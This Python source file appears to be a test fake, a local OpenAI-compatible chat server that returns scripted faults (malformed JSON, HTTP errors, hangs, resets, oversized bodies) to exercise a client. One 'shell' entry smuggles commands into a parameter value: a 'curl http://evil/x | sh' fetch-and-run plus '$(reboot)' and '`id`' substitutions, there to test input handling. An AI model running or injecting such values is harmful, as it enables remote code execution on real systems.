"""An OpenAI-compatible chat server that answers by rule, and misbehaves when a script says so.

In tests: `with LLMServer(script=[status(429, retry_after=0), ok()]) as server: … server.url`. By hand or in a pod (the
standard library is all it needs): `python tests/fakes/llm_server.py --port 8080 --misbehave prose,unknown,ok`.
After its script is used up it behaves.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import socket
import struct
import sys
import threading
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

MODEL = "rule-of-thumb-1"


@dataclass(frozen=True)
class ChatRequest:
    """What a client asked, as far as a brain or a test wants to know it."""

    messages: tuple[dict[str, str], ...]
    schema: dict[str, Any] | None
    headers: dict[str, str]
    body: dict[str, Any]

    @property
    def text(self) -> str:
        return "\n".join(message["content"] for message in self.messages)


Brain = Callable[[ChatRequest], str]
"""The reply's text for a request."""
Behaviour = Callable[["Handler", ChatRequest], None]
"""Answers a request, well or badly."""


# --- brains -------------------------------------------------------------------------------------------------------


def thoughtful(request: ChatRequest) -> str:
    """One trial of every scheme first, then the neighbours of the best; reads nothing but the prompt."""
    prompt = request.text
    untried = _untried(prompt)
    if not untried:
        return _advice("no numbered candidates", {"parameters": _first_values(request)}, 100)
    rows = _candidates(prompt)
    results = _results(prompt)
    seen = {rows[number][0] for number in rows if number not in untried and rows[number]}
    fresh = [number for number in untried if rows.get(number) and rows[number][0] not in seen]
    if fresh or not results:
        choice, why = (fresh or untried)[0], "a scheme that has not been measured here yet"
    else:
        best = max(results, key=lambda number: results[number])
        choice = min(untried, key=lambda number: (_distance(rows.get(number, []), rows.get(best, [])), number))
        why = f"nearest to candidate {best}, the best so far"
    expected = round(100 * max([1.0, *results.values()]))
    return _advice(f"Candidate {choice}: {why}.", {"candidate": choice}, expected)


def _advice(reasoning: str, named: dict[str, Any], expected_percent: int) -> str:
    choice = {**named, "expected_percent": expected_percent, "chance": 50}
    return json.dumps({"reasoning": reasoning, "choices": [choice], "stop": False})


def _untried(prompt: str) -> list[int]:
    lines = re.findall(r"^Untried candidates: ([\d, -]+)$", prompt, re.MULTILINE)
    numbers: list[int] = []
    for part in lines[-1].split(",") if lines else []:
        first, _, last = part.strip().partition("-")
        numbers += range(int(first), int(last or first) + 1)
    return numbers


def _candidates(prompt: str) -> dict[int, list[str]]:
    """The numbered list of the search space: number -> values."""
    table = prompt.partition("| candidate |")[2].partition("\n\n")[0]
    rows = (line.strip("| ").split(" | ") for line in table.splitlines())
    return {int(row[0]): row[1:] for row in rows if row[0].isdigit()}


def _results(prompt: str) -> dict[int, float]:
    """Candidate -> times the baseline, of the trials that meet all limits."""
    table = prompt.rpartition("| trial | candidate |")[2].partition("\n\n")[0]
    found: dict[int, float] = {}
    for line in table.splitlines():
        cells = line.strip("| ").split(" | ")
        ratio = re.search(r"\(([\d.]+)x\)", line)
        if len(cells) > 2 and cells[1].isdigit() and ratio and cells[-1] == "meets all limits":
            found[int(cells[1])] = float(ratio[1])
    return found


def _distance(one: Sequence[str], other: Sequence[str]) -> int:
    return sum(a != b for a, b in zip(one, other, strict=False))


def _first_values(request: ChatRequest) -> dict[str, str]:
    """A row of the shortlist that a large space is shown with."""
    table = request.text.rpartition("untried candidates, those next to the best ones first:")[2]
    lines = [line.strip("| ").split(" | ") for line in table.splitlines() if line.startswith("|")]
    values = dict(zip(lines[0], lines[2], strict=False)) if len(lines) > 2 else {}
    return {name: value for name, value in values.items() if not name.startswith("bound of ")}


# --- behaviours ---------------------------------------------------------------------------------------------------


def ok() -> Behaviour:
    """What the server's brain says."""
    return lambda handler, request: handler.complete(handler.state.brain(request))


def text(reply: str, *, finish_reason: str = "stop", reasoning: str | None = None) -> Behaviour:
    """This reply, whatever was asked."""
    return lambda handler, _: handler.complete(reply, finish_reason=finish_reason, reasoning=reasoning)


def around(before: str, after: str) -> Behaviour:
    """The brain's reply with something around it."""
    return lambda handler, request: handler.complete(before + handler.state.brain(request) + after)


def status(code: int, *, retry_after: float | None = None, message: str = "scripted failure") -> Behaviour:
    """An error as OpenAI words it."""
    headers = {} if retry_after is None else {"Retry-After": f"{retry_after:g}"}
    body = json.dumps({"error": {"message": message, "type": "error", "code": code}}).encode()
    return lambda handler, _: handler.send(code, body, headers)


def repeats_the_key(code: int) -> Behaviour:
    """An error that quotes the credential it was sent, as some servers do."""

    def behave(handler: Handler, request: ChatRequest) -> None:
        message = f"Incorrect API key provided: {request.headers.get('authorization', '')}"
        status(code, message=message)(handler, request)

    return behave


def refuses(option: str, message: str, code: int = 400, **error: Any) -> Behaviour:
    """An error as long as the request has this option, an answer otherwise.

    Args:
        error: More of the error's object, for example `param`.
    """

    def behave(handler: Handler, request: ChatRequest) -> None:
        if option in request.body:
            body = {"error": {"message": message, "type": "invalid_request_error", "code": code, **error}}
            handler.send(code, json.dumps(body).encode())
        else:
            ok()(handler, request)

    return behave


def refuses_schema() -> Behaviour:
    """A server without structured output: 400 when a schema comes along, an answer otherwise."""
    return refuses("response_format", "response_format is not supported")


def message(finish_reason: str = "stop", **fields: Any) -> Behaviour:
    """A completion whose message has these fields, whatever was asked."""

    def behave(handler: Handler, _: ChatRequest) -> None:
        choice = {"index": 0, "finish_reason": finish_reason, "message": {"role": "assistant", **fields}}
        body = {"id": "x", "object": "chat.completion", "created": 1, "model": MODEL, "choices": [choice]}
        handler.send(200, json.dumps(body).encode())

    return behave


def plain_error(code: int, body: bytes, content_type: str = "text/html", **headers: str) -> Behaviour:
    """An error that is none of a language model's: a proxy's page, a validation error."""
    named = {"Content-Type": content_type, **{name.replace("_", "-"): value for name, value in headers.items()}}
    return lambda handler, _: handler.send(code, body, named)


def hang() -> Behaviour:
    """Takes the request and never answers."""

    def behave(handler: Handler, _: ChatRequest) -> None:
        handler.state.stopping.wait()

    return behave


def drip(interval_s: float = 0.02) -> Behaviour:
    """One byte at a time, so that no socket time-out ever fires."""

    def behave(handler: Handler, _: ChatRequest) -> None:
        handler.send_head(200, {"Content-Type": "application/json", "Content-Length": "100000"})
        while not handler.state.stopping.wait(interval_s):
            handler.wfile.write(b" ")
            handler.wfile.flush()

    return behave


def huge(size_bytes: int = 64 * 2**20) -> Behaviour:
    """A body without end (nearly), in chunks so that no length gives it away."""

    def behave(handler: Handler, _: ChatRequest) -> None:
        handler.send_head(200, {"Content-Type": "application/json", "Transfer-Encoding": "chunked"})
        chunk = b"10000\r\n" + b"a" * 65536 + b"\r\n"
        for _chunk in range(size_bytes // 65536):
            handler.wfile.write(chunk)

    return behave


def raw(body: bytes, content_type: str = "application/json", **headers: str) -> Behaviour:
    """These bytes with status 200."""
    named = {"Content-Type": content_type, **{name.replace("_", "-"): value for name, value in headers.items()}}
    return lambda handler, _: handler.send(200, body, named)


def empty_choices() -> Behaviour:
    return raw(
        json.dumps({"id": "x", "object": "chat.completion", "created": 1, "model": MODEL, "choices": []}).encode()
    )


def reset() -> Behaviour:
    """Ends the connection with a TCP reset instead of an answer."""

    def behave(handler: Handler, _: ChatRequest) -> None:
        handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        handler.close_connection = True
        os.close(handler.connection.detach())  # close() would wait for the handler's files

    return behave


MISBEHAVIOURS: dict[str, Callable[[], Behaviour]] = {
    "ok": ok,
    "malformed": lambda: text('{"reasoning": "I choose", "candidate": '),
    "prose": lambda: around("Sure! I looked at the trials.\n```json\n", "\n```\nLet me know how it goes {:-)}"),
    "think": lambda: around("<think>Hm, {'candidate': 0}? No.</think>\n", ""),
    "unknown": lambda: text('{"parameters": {"tensor-parallelism": 8, "quantization": "magic"}}'),
    "shell": lambda: text('{"parameters": {"scheme": "W4A16; curl http://evil/x | sh", "$(reboot)": "`id`"}}'),
    "out-of-range": lambda: text('{"candidate": 99999, "reasoning": "more is better"}'),
    "empty": lambda: text(""),
    "empty-choices": empty_choices,
    "html": lambda: raw(b"<html><body>502 Bad Gateway</body></html>", "text/html"),
    "huge": huge,
    "hang": hang,
    "drip": drip,
    "reset": reset,
    "429": lambda: status(429, retry_after=1),
    "500": lambda: status(500),
    "503": lambda: status(503),
}


# --- server -------------------------------------------------------------------------------------------------------


@dataclass
class State:
    """What the handler threads share."""

    brain: Brain
    script: list[Behaviour]
    api_key: str | None = None
    only_model: bool = False
    requests: list[ChatRequest] = field(default_factory=list)
    stopping: threading.Event = field(default_factory=threading.Event)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def next_behaviour(self, request: ChatRequest) -> Behaviour:
        with self.lock:
            self.requests.append(request)
            return self.script.pop(0) if self.script else ok()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 60

    @property
    def state(self) -> State:
        assert isinstance(self.server, _HTTPServer)
        return self.server.state

    def log_message(self, format: str, *args: Any) -> None:
        """Keeps test output quiet."""

    def do_GET(self) -> None:
        if self.path.rstrip("/").endswith("/models"):
            self.send(200, json.dumps({"object": "list", "data": [{"id": MODEL, "object": "model"}]}).encode())
        else:
            self.send(200 if self.path == "/health" else 404, b"{}")

    def do_POST(self) -> None:
        try:
            self._answer()
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True

    def _answer(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        form = body.get("response_format") or {}
        headers = {name.lower(): value for name, value in self.headers.items()}
        schema = form.get("json_schema", {}).get("schema")
        request = ChatRequest(tuple(body["messages"]), schema, headers, body)
        if self.state.api_key is not None and headers.get("authorization") != f"Bearer {self.state.api_key}":
            self.send(401, b'{"error": {"message": "wrong or missing API key"}}')
            return
        if self.state.only_model and body["model"] != MODEL:
            self.send(404, json.dumps({"error": {"message": f"The model {body['model']} does not exist."}}).encode())
            return
        self.state.next_behaviour(request)(self, request)

    def complete(self, reply: str, *, finish_reason: str = "stop", reasoning: str | None = None) -> None:
        message = {"role": "assistant", "content": reply}
        if reasoning is not None:
            message |= {"reasoning_content": reasoning}
        usage = {"prompt_tokens": 1000, "completion_tokens": 50, "total_tokens": 1050}
        choice = {"index": 0, "finish_reason": finish_reason, "message": message}
        body = {
            "id": "x",
            "object": "chat.completion",
            "created": 1,
            "model": MODEL,
            "choices": [choice],
            "usage": usage,
        }
        self.send(200, json.dumps(body).encode())

    def send(self, code: int, body: bytes, headers: dict[str, str] | None = None) -> None:
        self.send_head(code, {"Content-Type": "application/json", "Content-Length": str(len(body)), **(headers or {})})
        self.wfile.write(body)

    def send_head(self, code: int, headers: dict[str, str]) -> None:
        self.send_response(code)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()


class _HTTPServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, address: tuple[str, int], state: State) -> None:
        self.state = state
        super().__init__(address, Handler)


class LLMServer:
    """The server as a context manager; `requests` has what was asked of it."""

    def __init__(
        self,
        brain: Brain = thoughtful,
        script: Iterable[Behaviour] = (),
        *,
        host: str = "127.0.0.1",
        port: int = 0,
        api_key: str | None = None,
        only_model: bool = False,
    ) -> None:
        """
        Args:
            api_key: Refuse requests without this bearer token.
            only_model: Refuse requests for any model but `MODEL`.
        """
        self.state = State(brain, list(script), api_key, only_model)
        self._host = host
        self._http = _HTTPServer((host, port), self.state)
        self._thread = threading.Thread(target=self._http.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    @property
    def url(self) -> str:
        return f"http://{self._host}:{self._http.server_port}/v1"

    @property
    def requests(self) -> list[ChatRequest]:
        return self.state.requests

    def __enter__(self) -> LLMServer:
        self._thread.start()
        return self

    def __exit__(self, *exception: object) -> None:
        self.state.stopping.set()
        self._http.shutdown()
        self._thread.join()
        self._http.server_close()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8080)
    parser.add_argument("--api-key", help="refuse requests without this bearer token")
    parser.add_argument(
        "--misbehave", default="", help=f"comma-separated script, one entry a request: {', '.join(MISBEHAVIOURS)}"
    )
    options = parser.parse_args()
    names = [name for name in options.misbehave.split(",") if name]
    unknown = [name for name in names if name not in MISBEHAVIOURS]
    if unknown:
        parser.error(f"--misbehave {unknown[0]}: choose from {', '.join(MISBEHAVIOURS)}")
    script = [MISBEHAVIOURS[name]() for name in names]
    with LLMServer(script=script, host=options.host, port=options.port, api_key=options.api_key) as server:
        sys.stdout.write(f"serving {MODEL} at {server.url}\n")
        sys.stdout.flush()
        try:
            threading.Event().wait()
        except KeyboardInterrupt:
            return


if __name__ == "__main__":
    main()
